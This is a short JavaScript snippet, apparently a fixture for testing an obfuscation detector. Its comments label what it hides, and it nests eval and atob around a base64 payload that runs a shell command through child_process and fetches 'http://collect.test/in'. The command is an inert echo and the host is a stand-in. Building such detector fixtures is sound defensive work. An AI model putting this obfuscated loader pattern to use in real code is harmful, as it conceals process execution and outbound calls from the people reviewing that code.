// hides: call child_process.exec "echo inert"
// hides: call fetch "http://collect.test/in"
// hides: depth 3
eval("eval(atob(\"RnVuY3Rpb24oInJlcXVpcmUoXCJjaGlsZF9wcm9jZXNzXCIpLmV4ZWMoXCJlY2hvIGluZXJ0XCIpO2ZldGNoKFwiaHR0cDovL2NvbGxlY3QudGVzdC9pblwiKSIpKCk=\"))");
